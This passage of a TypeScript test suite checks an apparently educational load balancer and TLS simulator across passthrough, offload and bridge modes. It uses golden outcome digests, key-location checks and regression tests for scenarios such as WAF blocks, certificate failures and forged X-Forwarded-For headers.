    ...both((r) => {
      expectClean(r);
      expect(servedBy(r.s)).toEqual(['backend-1', 'backend-3']);
    }),
  },
};

/**
 * Golden digest per run: each response as "status servedBy" (b1 = backend-1, lb = answered by the LB) with
 * repeats folded (×n), then the notable events in order. It pins the whole shape of a run in one line; the
 * explicit checks above say why each part matters. A digest reflects the engine as it is, including the
 * behaviour pinned by the regression tests below.
 */
const GOLDEN: Readonly<Record<string, Readonly<Record<Mode, string>>>> = {
  basic: { passthrough: '200 b1×4', offload: '200 b1×4', bridge: '200 b1×4' },
  cart: { passthrough: '200 b1, 401 b2, 401 b3, 200 b1', offload: '200 b1×4', bridge: '200 b1×4' },
  'cart-source-ip': { passthrough: '200 b1×4', offload: '200 b1×4', bridge: '200 b1×4' },
  'mobile-handover': { passthrough: '200 b1×2, 401 b3×2', offload: '200 b1×4', bridge: '200 b1×4' },
  'nat-pileup': {
    passthrough: '200 b3×18',
    offload: '200 b1×2, 200 b2×2, 200 b3×2, 200 b1×2, 200 b2×2, 200 b3×2, 200 b1, 200 b2, 200 b3, 200 b1, 200 b2, 200 b3',
    bridge: '200 b1×2, 200 b2×2, 200 b3×2, 200 b1×2, 200 b2×2, 200 b3×2, 200 b1, 200 b2, 200 b3, 200 b1, 200 b2, 200 b3',
  },
  'pool-routing': { passthrough: '200 b1, 200 b2, 200 b3', offload: '200 b1, 200 b3×2', bridge: '200 b1, 200 b3×2' },
  sqli: { passthrough: '200 b1×2', offload: '200 b1, 403 lb | waf 942130', bridge: '200 b1, 403 lb | waf 942130' },
  xss: { passthrough: '200 b1×2', offload: '403 lb, 200 b1 | waf 941110', bridge: '403 lb, 200 b1 | waf 941110' },
  'login-burst': {
    passthrough: '200 b1×6',
    offload: '200 b1, 200 b2, 200 b3, 429 lb×3 | rate 429×3',
    bridge: '200 b1, 200 b2, 200 b3, 429 lb×3 | rate 429×3',
  },
  'static-cache': { passthrough: '200 b1×2', offload: '200 b1, 200 lb | gzip | cacheHit | gzip', bridge: '200 b1, 200 lb | gzip | cacheHit | gzip' },
  'http-redirect': { passthrough: '301 b1, 200 b2', offload: '301 lb, 200 b1 | lb 301', bridge: '301 lb, 200 b1 | lb 301' },
  'client-ip': { passthrough: '200 b1', offload: '200 b1', bridge: '200 b1' },
  'proxy-mismatch': { passthrough: 'no response | proxy v2 | alert backend-1 unexpected_message | gaveUp', offload: '200 b1', bridge: '200 b1' },
  'xff-forged': { passthrough: '200 b1', offload: '200 b1', bridge: '200 b1' },
  mtls: { passthrough: '200 b1, 301 b2, 200 b1', offload: '200 b1, 403 b2', bridge: '200 b1, 301 b2, 200 b2' },
  'redirect-loop': { passthrough: '200 b1', offload: '301 b1, 301 b2, 301 b3, 301 b1, 301 b2, 301 b3 | gaveUp', bridge: '200 b1' },
  tamper: {
    passthrough: 'no response | alert backend-1 bad_record_mac | gaveUp',
    offload: 'no response | alert lb bad_record_mac | gaveUp',
    bridge: 'no response | alert lb bad_record_mac | gaveUp',
  },
  'tamper-internal': {
    passthrough: 'no response | alert backend-1 bad_record_mac | gaveUp',
    offload: '200 b1×2',
    bridge: '502 lb, 401 b2 | alert backend-1 bad_record_mac | rejected backend-1',
  },
  'wrong-host': {
    passthrough: 'no response | alert client bad_certificate | gaveUp',
    offload: 'no response | alert client bad_certificate | gaveUp',
    bridge: 'no response | alert client bad_certificate | gaveUp',
  },
  'untrusted-ca': {
    passthrough: 'no response | alert client unknown_ca | gaveUp',
    offload: 'no response | alert client unknown_ca | gaveUp',
    bridge: 'no response | alert client unknown_ca | gaveUp',
  },
  expired: {
    passthrough: 'no response | alert client certificate_expired | gaveUp',
    offload: 'no response | alert client certificate_expired | gaveUp',
    bridge: 'no response | alert client certificate_expired | gaveUp',
  },
  'impostor-backend': {
    passthrough: '200 b1, 200 b2, 200 b3',
    offload: '200 b1, 200 b2, 200 b3',
    bridge: '200 b1, 502 lb, 200 b3 | alert lb unknown_ca | rejected backend-2',
  },
  'impostor-unverified': { passthrough: '200 b1, 200 b2, 200 b3', offload: '200 b1, 200 b2, 200 b3', bridge: '200 b1, 200 b2, 200 b3' },
  'split-hello': { passthrough: '200 b1', offload: '200 b1', bridge: '200 b1' },
  'split-hello-naive': { passthrough: 'no response | parse.failed lb | gaveUp', offload: '200 b1', bridge: '200 b1' },
  'not-tls': {
    passthrough: 'no response | parse.failed lb | gaveUp',
    offload: 'no response | alert lb unexpected_message | gaveUp',
    bridge: 'no response | alert lb unexpected_message | gaveUp',
  },
  'tls13-hidden-certificate': { passthrough: '200 b1', offload: '200 b1', bridge: '200 b1' },
  'stolen-key': { passthrough: '200 b1', offload: '200 b1', bridge: '200 b1' },
  'ech-breaks-sni-routing': { passthrough: '200 b1, 200 b2', offload: '200 b1, 200 b3', bridge: '200 b1, 200 b3' },
};

/** Folds consecutive repeats: ['a', 'a', 'b'] → ['a×2', 'b']. */
function fold(items: readonly string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < items.length;) {
    let j = i;
    while (j < items.length && items[j] === items[i]) j++;
    out.push(j - i > 1 ? `${items[i]}×${j - i}` : items[i]!);
    i = j;
  }
  return out;
}

function digest(t: Timeline): string {
  const served = t.client.responses.map((r) => `${r.status} ${r.servedBy === null ? 'lb' : r.servedBy.replace('backend-', 'b')}`);
  const notes = t.events.flatMap((e): string[] => {
    switch (e.type) {
      case 'tls.alertSent': return [`alert ${e.node} ${e.detail.alert}`];
      case 'parse.failed': return [`parse.failed ${e.node}`];
      case 'client.gaveUp': return ['gaveUp'];
      case 'waf.blocked': return [`waf ${e.detail.matches.map((m) => m.ruleId).join('+')}`];
      case 'waf.rateLimited': return ['rate 429'];
      case 'lb.cacheHit': return ['cacheHit'];
      case 'lb.compressed': return ['gzip'];
      case 'lb.redirected': return ['lb 301'];
      case 'lb.backendRejected': return [`rejected ${e.detail.backend}`];
      case 'lb.proxyHeaderSent': return [`proxy v${e.detail.version}`];
      default: return [];
    }
  });
  return [fold(served).join(', ') || 'no response', ...fold(notes)].join(' | ');
}

// ---------------------------------------------------------------------------------------------------------------

const ALL_IDS = SCENARIOS.map((s) => s.id);
const CASES = ALL_IDS.flatMap((id) => MODES.map((mode) => [id, mode] as const));

describe('the outcome table covers the catalogue', () => {
  it('has exactly one row per scenario id, each with a check for every mode', () => {
    expect(Object.keys(OUTCOMES).sort()).toEqual([...ALL_IDS].sort());
    for (const row of Object.values(OUTCOMES)) expect(Object.keys(row).sort()).toEqual([...MODES].sort());
  });

  it('has exactly one golden digest per scenario id and mode', () => {
    expect(Object.keys(GOLDEN).sort()).toEqual([...ALL_IDS].sort());
    for (const row of Object.values(GOLDEN)) expect(Object.keys(row).sort()).toEqual([...MODES].sort());
  });
});

describe('what the learner sees, scenario by scenario', () => {
  it.each(CASES)('%s / %s', (id, mode) => {
    const row = OUTCOMES[id];
    expect(row, `no row for ${id}`).toBeDefined();
    row![mode](run(id, mode));
  });
});

describe('golden digests', () => {
  it.each(CASES)('%s / %s', (id, mode) => {
    expect(digest(run(id, mode).t)).toBe(GOLDEN[id]?.[mode]);
  });
});

describe('where the keys live (summary.keyLocations), in every scenario', () => {
  const held = (key: KeyName, certificate: CertName) => [expect.objectContaining({ key, certificate })];
  it.each(CASES)('%s / %s', (id, mode) => {
    const scenario = findScenario(id)!;
    const front = scenario.faults?.serverCertificate ?? 'site';
    const { keyLocations } = run(id, mode).s;
    expect(Object.keys(keyLocations).sort()).toEqual(['backend-1', 'backend-2', 'backend-3', 'client', 'lb']);
    expect(keyLocations.client).toEqual([]);
    for (const b of ['backend-1', 'backend-2', 'backend-3'] as const) {
      if (mode === 'passthrough') {
        // The LB holds nothing; every backend holds the site's key, since any of them may get any handshake.
        expect(keyLocations.lb).toEqual([]);
        expect(keyLocations[b]).toEqual(held('site', front));
      } else if (mode === 'offload') {
        expect(keyLocations.lb).toEqual(held('site', front));
        expect(keyLocations[b]).toEqual([]);
      } else {
        expect(keyLocations.lb).toEqual(held('site', front));
        const impostor = scenario.faults?.impostorBackend === true && b === 'backend-2';
        expect(keyLocations[b]).toEqual(impostor ? held('rogueCa', 'impostorBackend') : held(b, b));
      }
    }
  });
});

describe('the outcome changes with the option a learner flips', () => {
  it.each(['v1', 'v2'] as const)('client-ip, passthrough, PROXY protocol %s: the backend believes 203.0.113.10', (version) => {
    const r = run('client-ip', 'passthrough', { proxyProtocol: version });
    expectClean(r);
    expectBelieved(r.s, CLIENT_IP, /^proxy protocol$/);
    expect(jsonBody(r.t, 0)).toMatchObject({ clientIp: CLIENT_IP, peerAddress: LB_INTERNAL_IP });
  });

  it.each(L7)('xff-forged, %s, forwardedForAppend off (overwrite): the backend believes 203.0.113.10 and never sees 6.6.6.6', (mode) => {
    const r = run('xff-forged', mode, { forwardedForAppend: false });
    expectClean(r);
    expectBelieved(r.s, CLIENT_IP, TRUSTED_XFF);
    expect(jsonBody(r.t, 0)).toMatchObject({ xForwardedFor: CLIENT_IP });
  });

  it('xff-forged, passthrough: overwriting is impossible (the LB cannot write into TLS), so 6.6.6.6 is still believed', () => {
    expectBelieved(run('xff-forged', 'passthrough', { forwardedForAppend: false }).s, '6.6.6.6', TRUSTED_XFF);
  });

  it('xff-forged, passthrough with PROXY v2: the PROXY header wins over the forged X-Forwarded-For', () => {
    const r = run('xff-forged', 'passthrough', { proxyProtocol: 'v2' });
    expectBelieved(r.s, CLIENT_IP, /^proxy protocol$/);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Outcomes that look wrong versus MODES.md, the summary's own contract, or reality. Each states the correct
// behaviour and is expected to fail until the engine (or the scenario data) is fixed.

describe('outcomes that were once wrong (regression tests)', () => {
  // summary.ts documents servedBy as "null: answered by the LB itself, e.g. WAF, cache, redirect"; the cached copy
  // keeps the stored X-Served-By header, so the cache hit is reported as served by backend-1.
  for (const mode of L7) {
    it(`static-cache / ${mode}: the response answered from the LB's cache has servedBy null`, () => {
      const { t, s } = run('static-cache', mode);
      expect(eventsOf(t, 'lb.cacheHit')).toHaveLength(1);
      expect(s.backendPerRequest[1]!.servedBy).toBeNull();
    });
  }

  // RateDecision.count is documented as "hits inside the window ending now, this one included", but the limiter
  // keeps only limit + 1 timestamps, so the sixth attempt is reported as the fifth.
  for (const mode of L7) {
    it(`login-burst / ${mode}: the rate rule counts the 4th, 5th and 6th attempts as 4, 5 and 6`, () => {
      expect(eventsOf(run('login-burst', mode).t, 'waf.rateLimited').map((e) => e.detail.count)).toEqual([4, 5, 6]);
    });
  }

  // MODES.md lists "L7 rate rules" under WAF, and the engine names them waf.rateLimited (CRS rule 912120), but
  // summary.wafVerdicts ignores them: the three requests answered 429 show as inspected, not blocked.
  for (const mode of L7) {
    it(`login-burst / ${mode}: summary.wafVerdicts shows the three 429s as blocked`, () => {
      const { s } = run('login-burst', mode);
      expect(s.wafVerdicts.filter((v) => v.blocked)).toHaveLength(3);
    });
  }

  // The client's final look at its cart (GET /cart) was a 401 from a backend that never saw the login, but
  // summary.cart ("the items in the last cart the client saw") reports ['blue-mug'] from the earlier /cart/add
  // response, so the headline suggests the cart partly survived the handover.
  it('mobile-handover / passthrough: summary.cart shows the cart as lost after the final view failed', () => {
    const { t, s } = run('mobile-handover', 'passthrough');
    expect(t.client.responses.at(-1)!.status).toBe(401);
    expect(s.cart ?? []).toEqual([]);
  });

  // as(user, login) changes the browser but keeps the body "user=alice", so six colleagues all sign in as alice.
  for (const mode of MODES) {
    it(`nat-pileup / ${mode}: each of the six users is signed in as themselves`, () => {
      const { t } = run('nat-pileup', mode);
      for (const c of t.client.responses.slice(12)) expect((JSON.parse(c.body) as { user: string }).user).toBe(c.client);
    });
  }

  // bridge.ts labels every failure of the LB->backend TLS session "the backend's certificate was rejected", even
  // a bad_record_mac after a completed handshake; the 502 and lb.backendRejected then blame the wrong thing.
  it('tamper-internal / bridge: the 502 names the bad record MAC, not a rejected certificate', () => {
    const { t } = run('tamper-internal', 'bridge');
    const [rejected] = eventsOf(t, 'lb.backendRejected');
    expect(rejected!.detail.failure).toMatchObject({ code: 'tls-session-failed', alert: 'bad_record_mac' });
    expect(rejected!.detail.failure).not.toMatchObject({ diagnostic: expect.stringMatching(/certificate/) });
  });
});
